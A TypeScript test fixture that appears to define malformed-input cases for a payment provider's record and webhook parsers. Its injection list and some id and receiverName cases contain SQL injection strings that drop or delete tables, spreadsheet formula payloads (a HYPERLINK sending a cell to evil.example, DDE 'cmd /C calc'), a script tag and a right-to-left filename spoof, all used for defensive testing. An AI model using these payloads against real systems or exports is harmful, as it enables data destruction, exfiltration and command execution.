/**
 * The bad-input corpus for the PSP's records: register rows (2.10), period rows (2.9) and webhook
 * bodies (the decoded `data` JSON of 6.2–6.5). Each case is the record's exact JSON text and the
 * outcome expected from its parser:
 *   { ok: false, field }   refused, naming the field (ingest then records a SourceRecordRejected with the raw text)
 *   { ok: true, value? }   accepted; `value` is a partial match of the normalized record
 * See docs/bad-input.md for how to add a case.
 */

export type Expected =
  | { readonly ok: false; readonly field: string; readonly reason?: RegExp }
  | { readonly ok: true; readonly value?: Record<string, unknown> };

export interface RecordCase {
  readonly name: string;
  readonly text: string;
  readonly expect: Expected;
}

export type RecordKind = 'register' | 'period' | 'webhook';

/** Parsers are given this "now" so that the plausibility window of times is fixed. */
export const NOW = new Date('2024-06-01T00:00:00Z');

/** Strings that are data, not errors: stored verbatim, neutralised only when exported. */
export const INJECTIONS: readonly (readonly [string, string])[] = [
  ['SQL', "x'); DROP TABLE es_events; --"],
  ['SQL comment and quote', `' OR '1'='1' /* */ --`],
  ['spreadsheet formula =', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ['spreadsheet formula +', "+SUM(1+1)*cmd|' /C calc'!A0"],
  ['spreadsheet formula -', "-2+3+cmd|' /C calc'!A0"],
  ['spreadsheet formula @', '@SUM(A1:A9)'],
  ['tab-led formula', '\t=1+1'],
  ['CSV breaking quotes and newlines', 'a","b"\r\n"c,d'],
  ['control characters and ANSI escape', 'ok\u0001\u0007\u001b[31mred\u001b[0m\u007f'],
  ['right-to-left override', 'invoice\u202Efdp.exe'],
  ['HTML', '<script>alert(1)</script>'],
  ['astral characters', 'pay 😀 𝄞'],
  ['very long text', 'x'.repeat(20_000)],
];

// A record is built from raw JSON fragments, so that any text (1e2, NaN, a bare word) can be put in a field.
type Fragments = Record<string, string | undefined>;

const BASE: Record<RecordKind, Fragments> = {
  register: {
    projectId: '"6b1d2a4e-7c0f-4f51-9d3e-1a2b3c4d5e6f"',
    orderId: '"order-1"',
    paymentId: '"2f1c7a9e-0000-4000-8000-000000000001"',
    amount: '"102.50"',
    currency: '"UAH"',
    method: '"purchase"',
    status: '"success"',
    dateTime: '1714557600000',
    customerFee: '"2.50"',
    merchantFee: '"1.75"',
    originalAmount: '"100.00"',
    receiverName: '"Shop A"',
    receiverAmount: '"58.25"',
    receiverFee: '"1.75"',
    reserveAmount: '"5.00"',
    description: '"Order 1"',
  },
  period: {
    projectId: '"6b1d2a4e-7c0f-4f51-9d3e-1a2b3c4d5e6f"',
    orderId: '"order-1"',
    paymentId: '"2f1c7a9e-0000-4000-8000-000000000001"',
    amount: '"100.00"',
    currency: '"UAH"',
    method: '"purchase"',
    status: '"success"',
    dateTime: '1714557600000',
    customerFee: '"2.50"',
    merchantFee: '"1.75"',
    description: '"Order 1"',
  },
  webhook: {
    payment_id: '"2f1c7a9e-0000-4000-8000-000000000001"',
    order_id: '"order-1"',
    transaction_id: '"7a0c2b1e-0000-4000-8000-000000000002"',
    pos_id: '"6b1d2a4e-7c0f-4f51-9d3e-1a2b3c4d5e6f"',
    mode: '"direct"',
    method: '"purchase"',
    amount: '100.5',
    currency: '"UAH"',
    status: '"success"',
    status_code: '"1000"',
    status_description: '"transaction is successful"',
    fee: '{"amount": 2.5, "currency": "UAH"}',
    created_at: '"2024-05-01T10:00:00.000"',
    processed_at: '"2024-05-01T10:00:02.000"',
  },
};

/** Field names per kind (the webhook uses snake_case and timestamps instead of epoch milliseconds). */
const F = {
  register: { paymentId: 'paymentId', orderId: 'orderId', time: 'dateTime', text: 'description' },
  period: { paymentId: 'paymentId', orderId: 'orderId', time: 'dateTime', text: 'description' },
  webhook: { paymentId: 'payment_id', orderId: 'order_id', time: 'created_at', text: 'status_description' },
} as const;

/** The record's JSON text with some fields replaced (a fragment) or removed (undefined). */
export function recordText(kind: RecordKind, over: Fragments = {}): string {
  const fields = { ...BASE[kind], ...over };
  const members = Object.entries(fields)
    .filter((e): e is [string, string] => e[1] !== undefined)
    .map(([k, v]) => `${JSON.stringify(k)}:${v}`);
  return `{${members.join(',')}}`;
}

const q = (s: string) => JSON.stringify(s);
const refuse = (field: string, reason?: RegExp): Expected => ({ ok: false, field, reason });
const accept = (value?: Record<string, unknown>): Expected => ({ ok: true, value });

/** Where the parser puts a text field's value in the normalized record. */
function textField(kind: RecordKind, value: string): Record<string, unknown> {
  return { other: { [F[kind].text]: value } };
}

function amountCases(kind: RecordKind): RecordCase[] {
  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
    name: `amount ${name}`,
    text: recordText(kind, { amount: fragment }),
    expect,
  });
  const required = kind !== 'register'; // a register row may omit amount (transaction_details)
  return [
    c('with two decimals as a string', '"10.50"', accept({ amount: '1050' })),
    c('with two decimals as a JSON number', '10.5', accept({ amount: '1050' })),
    c('whole', '7', accept({ amount: '700' })),
    c('zero', '"0.00"', accept({ amount: '0' })),
    c('at the largest accepted value', '"10000000000000.00"', accept({ amount: '1000000000000000' })),
    c('with spaces around it (read as the same amount)', '" 10.50 "', accept({ amount: '1050' })),
    c('with three decimals (string)', '"10.005"', refuse('amount', /more than two decimals/)),
    c('with three decimals (number)', '10.005', refuse('amount', /more than two decimals/)),
    c('with trailing zero decimals beyond two', '"10.500"', refuse('amount', /more than two decimals/)),
    c('negative (string)', '"-1.00"', refuse('amount', /negative/)),
    c('negative (number)', '-0.01', refuse('amount', /negative/)),
    c('NaN as a string', '"NaN"', refuse('amount', /not a plain decimal/)),
    c('NaN as a bare word (not JSON)', 'NaN', refuse('(root)', /invalid JSON/)),
    c('Infinity as a string', '"Infinity"', refuse('amount', /not a plain decimal/)),
    c('in exponent notation (number)', '1e2', refuse('amount', /not a plain decimal/)),
    c('in exponent notation (string)', '"1.5E+2"', refuse('amount', /not a plain decimal/)),
    c('tiny exponent', '1e-300', refuse('amount', /not a plain decimal/)),
    c('one minor unit above the largest', '"10000000000000.01"', refuse('amount', /too large/)),
    c('huge (30 digits)', '123456789012345678901234567890', refuse('amount', /too large/)),
    c('huge (400 digits)', '9'.repeat(400), refuse('amount', /too large/)),
    c('with a thousands separator', '"1,000.00"', refuse('amount', /not a plain decimal/)),
    c('with a decimal comma', '"10,50"', refuse('amount', /not a plain decimal/)),
    c('with a leading dot', '".5"', refuse('amount', /not a plain decimal/)),
    c('with a trailing dot', '"1."', refuse('amount', /not a plain decimal/)),
    c('hexadecimal', '"0x10"', refuse('amount', /not a plain decimal/)),
    c('with a currency sign', '"$10.00"', refuse('amount', /not a plain decimal/)),
    c('in Arabic-Indic digits', q('١٠'), refuse('amount', /not a plain decimal/)),
    c('boolean', 'true', refuse('amount')),
    c('object', '{"value": "10.00"}', refuse('amount')),
    c('array', '["10.00"]', refuse('amount')),
    ...(required
      ? [
          c('missing', undefined, refuse('amount')),
          c('null', 'null', refuse('amount')),
          c('empty string', '""', refuse('amount', /not a plain decimal/)),
        ]
      : [
          c('missing (not asked for in transaction_details)', undefined, accept({ amount: null })),
          c('null', 'null', accept({ amount: null })),
          c('empty string', '""', accept({ amount: null })),
        ]),
  ];
}

function feeCases(kind: RecordKind): RecordCase[] {
  if (kind === 'webhook') {
    const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
      name: `fee ${name}`,
      text: recordText(kind, { fee: fragment }),
      expect,
    });
    return [
      c('negative', '{"amount": -2.5, "currency": "UAH"}', refuse('fee.amount', /negative/)),
      c('with three decimals', '{"amount": 2.505, "currency": "UAH"}', refuse('fee.amount', /more than two decimals/)),
      c('in exponent notation', '{"amount": 2.5e0, "currency": "UAH"}', refuse('fee.amount', /not a plain decimal/)),
      c('a string instead of an object', '"2.50"', refuse('fee')),
      c('with a lowercase currency', '{"amount": 2.5, "currency": "uah"}', refuse('fee.currency')),
      c('absent', undefined, accept({ fee: null })),
    ];
  }
  const c = (name: string, fragment: string, expect: Expected): RecordCase => ({
    name: `merchantFee ${name}`,
    text: recordText(kind, { merchantFee: fragment }),
    expect,
  });
  return [
    c('negative', '"-1.75"', refuse('merchantFee', /negative/)),
    c('with three decimals', '"1.755"', refuse('merchantFee', /more than two decimals/)),
    c('NaN', '"NaN"', refuse('merchantFee')),
    c('empty (no fee)', '""', accept({ merchantFee: null })),
  ];
}

/** Whole yen: every amount of a JPY record, as the register, period and webhook write it. */
const YEN: Record<RecordKind, Fragments> = {
  register: {
    currency: '"JPY"',
    amount: '"1025"',
    customerFee: '"25"',
    merchantFee: '"17"',
    originalAmount: '"1000"',
    receiverAmount: '"583"',
    receiverFee: '"17"',
    reserveAmount: '"50"',
  },
  period: { currency: '"JPY"', amount: '"1000"', customerFee: '"25"', merchantFee: '"17"' },
  webhook: { currency: '"JPY"', amount: '1000', fee: '{"amount": 25, "currency": "JPY"}' },
};

/**
 * An amount of a fraction of its currency's smallest unit (1000.50 JPY: yen have no decimals) is refused naming
 * the field, as the bank and orders doors refuse it: stored, the JPY payable became a fraction of a yen and the
 * whole payout was left out (`not_whole_units`). Hundredths stay whole units of EUR, UAH and KWD.
 */
function wholeUnitCases(kind: RecordKind): RecordCase[] {
  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({
    name: `JPY ${name}`,
    text: recordText(kind, { ...YEN[kind], ...over }),
    expect,
  });
  const fee = kind === 'webhook' ? 'fee.amount' : 'merchantFee';
  const feeOf = (text: string, currency = 'JPY') =>
    kind === 'webhook' ? { fee: `{"amount": ${text}, "currency": "${currency}"}` } : { merchantFee: q(text) };
  return [
    c('in whole yen (accepted)', {}, accept({ currency: 'JPY', amount: kind === 'register' ? '102500' : '100000' })),
    c('amount of a fraction of a yen (string)', { amount: '"1000.50"' }, refuse('amount', /smallest unit/)),
    c('amount of a fraction of a yen (number)', { amount: '1000.5' }, refuse('amount', /JPY has 0 decimals/)),
    c('amount of one hundredth of a yen', { amount: '"0.01"' }, refuse('amount', /smallest unit/)),
    c('amount with zero decimals written (accepted)', { amount: '"1000.00"' }, accept()),
    c('fee of a fraction of a yen', feeOf('12.5'), refuse(fee, /smallest unit/)),
    ...(kind === 'webhook'
      ? [c('fee in euros on a payment in yen, with cents (accepted)', feeOf('2.5', 'EUR'), accept({ fee: '250' }))]
      : []),
    ...(kind === 'register'
      ? [
          c('receiverAmount of a fraction of a yen', { receiverAmount: '"583.40"' }, refuse('receiverAmount')),
          c('reserveAmount of a fraction of a yen', { reserveAmount: '"0.50"' }, refuse('reserveAmount')),
        ]
      : []),
    c(
      'in KWD with two decimals (accepted: hundredths are whole fils)',
      { currency: '"KWD"', amount: '"10.05"' },
      accept(),
    ),
  ];
}

function currencyCases(kind: RecordKind): RecordCase[] {
  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
    name: `currency ${name}`,
    text: recordText(kind, { currency: fragment }),
    expect,
  });
  return [
    c('lowercase', '"uah"', refuse('currency', /3-letter uppercase/)),
    c('four letters', '"UAHX"', refuse('currency', /3-letter uppercase/)),
    c('numeric ISO code as a number', '980', refuse('currency')),
    c('numeric ISO code as a string', '"980"', refuse('currency', /3-letter uppercase/)),
    c('empty', '""', refuse('currency')),
    c('null', 'null', refuse('currency')),
    c('missing', undefined, refuse('currency')),
    c('with a space', '"UA H"', refuse('currency')),
    c('Cyrillic look-alike letters', q('UАН'), refuse('currency')),
    // A well-formed code outside the ISO list is kept as received (docs/psp.md: refusing it would hide money).
    c('well-formed but not in ISO 4217 (kept, not refused)', '"ZZZ"', accept({ currency: 'ZZZ' })),
    c('the ISO test code XTS', '"XTS"', accept({ currency: 'XTS' })),
  ];
}

function timeCases(kind: RecordKind): RecordCase[] {
  const field = F[kind].time;
  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
    name: `${field} ${name}`,
    text: recordText(kind, { [field]: fragment }),
    expect,
  });
  const out = kind === 'webhook' ? 'createdAt' : 'dateTime';
  if (kind === 'webhook') {
    return [
      c('empty (not yet set)', '""', accept({ createdAt: null })),
      c(
        'with milliseconds, no zone (read as UTC)',
        '"2024-05-01T10:00:00.123"',
        accept({ createdAt: '2024-05-01T10:00:00.123Z' }),
      ),
      c(
        'with an explicit offset',
        '"2024-05-01T12:00:00.000+02:00"',
        accept({ createdAt: '2024-05-01T10:00:00.000Z' }),
      ),
      c('all zeros', '"0000-00-00T00:00:00"', refuse(field, /not a valid time/)),
      c('30 February', '"2024-02-30T10:00:00.000"', refuse(field, /not a valid time/)),
      c('hour 25', '"2024-05-01T25:00:00.000"', refuse(field, /not a valid time/)),
      c('with an offset of 99 hours', '"2024-05-01T10:00:00.000+99:00"', refuse(field, /timestamp/)),
      c('in 1970', '"1970-01-01T00:00:00.000"', refuse(field, /before 2000/)),
      c('in 9999', '"9999-12-31T23:59:59.999"', refuse(field, /ahead/)),
      c('a word', '"yesterday"', refuse(field, /timestamp/)),
      c('epoch milliseconds instead of a timestamp', '1714557600000', refuse(field)),
      c('a date only', '"2024-05-01"', refuse(field, /timestamp/)),
    ];
  }
  return [
    c('empty string (not yet set)', '""', accept({ [out]: null })),
    c('null', 'null', accept({ [out]: null })),
    c('as a numeric string', '"1714557600123"', accept({ [out]: '2024-05-01T10:00:00.123Z' })),
    c('zero', '0', refuse(field, /before 2000/)),
    c('in seconds instead of milliseconds', '1714557600', refuse(field, /before 2000/)),
    c('in the year 5138', '99999999999999', refuse(field, /ahead/)),
    c('negative', '-1', refuse(field, /whole milliseconds/)),
    c('fractional', '1714557600000.5', refuse(field, /whole milliseconds/)),
    c('in exponent notation', '1.7145576e12', refuse(field, /whole milliseconds/)),
    c('too many digits', '1'.repeat(40), refuse(field, /whole milliseconds/)),
    c('an ISO timestamp instead of milliseconds', '"2024-05-01T10:00:00.000Z"', refuse(field, /whole milliseconds/)),
    c('a word', '"tomorrow"', refuse(field, /whole milliseconds/)),
    c('boolean', 'true', refuse(field)),
  ];
}

function idCases(kind: RecordKind): RecordCase[] {
  const field = F[kind].paymentId;
  const c = (name: string, fragment: string | undefined, expect: Expected): RecordCase => ({
    name: `${field} ${name}`,
    text: recordText(kind, { [field]: fragment }),
    expect,
  });
  return [
    c('missing', undefined, refuse(field)),
    c('null', 'null', refuse(field)),
    c('empty', '""', refuse(field, /empty/)),
    c('blank', '"   "', refuse(field, /empty/)),
    c('an object', '{"id": 1}', refuse(field)),
    c('longer than 256 characters', q('p'.repeat(300)), refuse(field, /longer than 256/)),
    c('with a newline', q('pay\nment'), refuse(field, /control character/)),
    c('with a NUL', '"pay\\u0000ment"', refuse(field, /NUL/)),
    c(
      'a number (kept as its text)',
      '123456789012345678901234567890',
      accept({ paymentId: '123456789012345678901234567890' }),
    ),
    c(
      'with SQL in it (an id like any other)',
      q("p'; DELETE FROM es_events; --"),
      accept({ paymentId: "p'; DELETE FROM es_events; --" }),
    ),
    // the order id is indexed by the read models (a b-tree entry is at most 2,704 bytes)
    {
      name: `${F[kind].orderId} longer than 256 characters`,
      text: recordText(kind, { [F[kind].orderId]: q('o'.repeat(3000)) }),
      expect: refuse(F[kind].orderId, /longer than 256 characters \(3000\)/),
    },
  ];
}

function shapeCases(kind: RecordKind): RecordCase[] {
  const valid = recordText(kind);
  const c = (name: string, text: string, expect: Expected): RecordCase => ({ name, text, expect });
  const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
  return [
    c('the valid record', valid, accept()),
    c('not JSON', 'this is not JSON', refuse('(root)', /invalid JSON/)),
    c('empty text', '', refuse('(root)', /invalid JSON/)),
    c('truncated JSON', valid.slice(0, Math.floor(valid.length / 2)), refuse('(root)', /invalid JSON/)),
    c('trailing garbage', `${valid} x`, refuse('(root)', /invalid JSON/)),
    c('two records glued', `${valid}${valid}`, refuse('(root)', /invalid JSON/)),
    c('a byte-order mark in front', `\ufeff${valid}`, refuse('(root)', /invalid JSON/)),
    c('an array', `[${valid}]`, refuse('(root)', /JSON object/)),
    c('null', 'null', refuse('(root)', /JSON object/)),
    c('a string', q(valid), refuse('(root)', /JSON object/)),
    c('a number', '42', refuse('(root)', /JSON object/)),
    c('an empty object', '{}', refuse(kind === 'webhook' ? 'method' : 'paymentId')),
    c(
      'a duplicate amount with another value',
      `${valid.slice(0, -1)},"amount":"999.00"}`,
      refuse('(root)', /Duplicate key/),
    ),
    c(
      'a raw control character inside a string (not JSON)',
      recordText(kind, { [F[kind].text]: '"a\u0001b"' }),
      refuse('(root)', /invalid JSON/),
    ),
    c(
      'a raw tab inside a string (not JSON)',
      recordText(kind, { [F[kind].text]: '"a\tb"' }),
      refuse('(root)', /invalid JSON/),
    ),
    c('an unknown method', recordText(kind, { method: '"teleport"' }), refuse('method', /unknown method/)),
    c('an unknown status', recordText(kind, { status: '"done"' }), refuse('status', /unknown status/)),
    c('a numeric method', recordText(kind, { method: '5' }), refuse('method')),
    c(
      'method and status in another case (same meaning)',
      recordText(kind, { method: '"PURCHASE"', status: '" Success "' }),
      accept({ method: 'purchase', status: 'success' }),
    ),
    c('nested 20 levels deep in an extra field (allowed)', recordText(kind, { extra: deep(20) }), accept()),
    c(
      'nested 33 levels deep in an extra field',
      recordText(kind, { extra: deep(33) }),
      refuse('(root)', /deeper than 32/),
    ),
    c('nested 100,000 levels deep', recordText(kind, { extra: deep(100_000) }), refuse('(root)', /deeper than 32/)),
    c('only opening brackets (1,000,000)', '['.repeat(1_000_000), refuse('(root)', /deeper than 32/)),
    c('a NUL escape in a text field', recordText(kind, { [F[kind].text]: '"a\\u0000b"' }), refuse(F[kind].text, /NUL/)),
    c('a NUL escape in a member name', recordText(kind, { 'x\u0000y': '1' }), refuse('x\\u0000y', /NUL/)),
    c(
      'an unpaired high surrogate',
      recordText(kind, { [F[kind].text]: '"a\\ud800b"' }),
      refuse(F[kind].text, /surrogate/),
    ),
    c(
      'an unpaired low surrogate deep inside',
      recordText(kind, { extra: '{"list": ["ok", "\\udc00"]}' }),
      refuse('extra.list.1', /surrogate/),
    ),
    c(
      'a well-formed surrogate pair escape (accepted)',
      recordText(kind, { [F[kind].text]: '"\\ud83d\\ude00"' }),
      accept(textField(kind, '😀')),
    ),
    c(
      'unknown fields (kept)',
      recordText(kind, { brandNew: '{"x": [1, "two", null]}' }),
      accept({ other: { brandNew: { x: [1, 'two', null] } } }),
    ),
    c(
      'a __proto__ member (no prototype pollution)',
      recordText(kind, { ['__proto__']: '{"polluted": true}' }),
      accept(),
    ),
  ];
}

function injectionCases(kind: RecordKind): RecordCase[] {
  const out: RecordCase[] = [];
  for (const [name, value] of INJECTIONS) {
    out.push({
      name: `${name} in ${F[kind].text} (stored verbatim)`,
      text: recordText(kind, { [F[kind].text]: q(value) }),
      expect: accept(textField(kind, value)),
    });
    out.push({
      name: `${name} in ${F[kind].orderId}${value.length > 256 ? ' (refused)' : ' (stored verbatim)'}`,
      text: recordText(kind, { [F[kind].orderId]: q(value) }),
      // an id the read models index is bounded (a b-tree entry is at most 2,704 bytes); a free text is not
      expect: value.length > 256 ? refuse(F[kind].orderId, /longer than 256/) : accept({ orderId: value }),
    });
  }
  return out;
}

function webhookOnlyCases(): RecordCase[] {
  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({
    name,
    text: recordText('webhook', over),
    expect,
  });
  return [
    c(
      'a recurring object marks a recurring notification',
      { recurring: '{"id": "sub-1", "status": "active"}' },
      accept({ kind: 'recurring', recurringId: 'sub-1' }),
    ),
    c('recurring as an array', { recurring: '[1]' }, refuse('recurring')),
    c('recurring without an id', { recurring: '{}' }, refuse('recurring.id')),
    c('a refund', { method: '"refund"', operation_id: '"op-1"' }, accept({ kind: 'refund', operationId: 'op-1' })),
    c(
      'operation_id as a JSON number on a purchase (kept as its text)',
      { operation_id: '0e0' },
      accept({ kind: 'primary', operationId: '0e0' }),
    ),
    c('operation_id as an object', { operation_id: '{"id": 1}' }, refuse('operation_id')),
    c('method missing', { method: undefined }, refuse('method')),
    c('status missing', { status: undefined }, refuse('status')),
  ];
}

function recordOnlyCases(kind: 'register' | 'period'): RecordCase[] {
  const c = (name: string, over: Fragments, expect: Expected): RecordCase => ({
    name,
    text: recordText(kind, over),
    expect,
  });
  const out = [
    c('customerFee negative', { customerFee: '"-2.50"' }, refuse('customerFee', /negative/)),
    c('customerFee in exponent notation', { customerFee: '2.5e0' }, refuse('customerFee', /not a plain decimal/)),
  ];
  if (kind === 'register') {
    out.push(
      c(
        'receiverAmount with three decimals',
        { receiverAmount: '"58.255"' },
        refuse('receiverAmount', /more than two decimals/),
      ),
      c('reserveAmount negative', { reserveAmount: '"-5.00"' }, refuse('reserveAmount', /negative/)),
      c('originalAmount huge', { originalAmount: '"1e400"' }, refuse('originalAmount', /not a plain decimal/)),
      c(
        'receiverName longer than 256 characters',
        { receiverName: q('r'.repeat(3000)) },
        refuse('receiverName', /longer than 300/),
      ),
      c(
        'receiverName with a formula (stored verbatim)',
        { receiverName: q('=cmd|" /C calc"!A0') },
        accept({ receiverName: '=cmd|" /C calc"!A0' }),
      ),
    );
  }
  return out;
}

export function recordCases(kind: RecordKind): RecordCase[] {
  return [
    ...shapeCases(kind),
    ...amountCases(kind),
    ...feeCases(kind),
    ...currencyCases(kind),
    ...wholeUnitCases(kind),
    ...timeCases(kind),
    ...idCases(kind),
    ...injectionCases(kind),
    ...(kind === 'webhook' ? webhookOnlyCases() : recordOnlyCases(kind)),
  ];
}

export const registerCases = recordCases('register');
export const periodCases = recordCases('period');
export const webhookPayloadCases = recordCases('webhook');
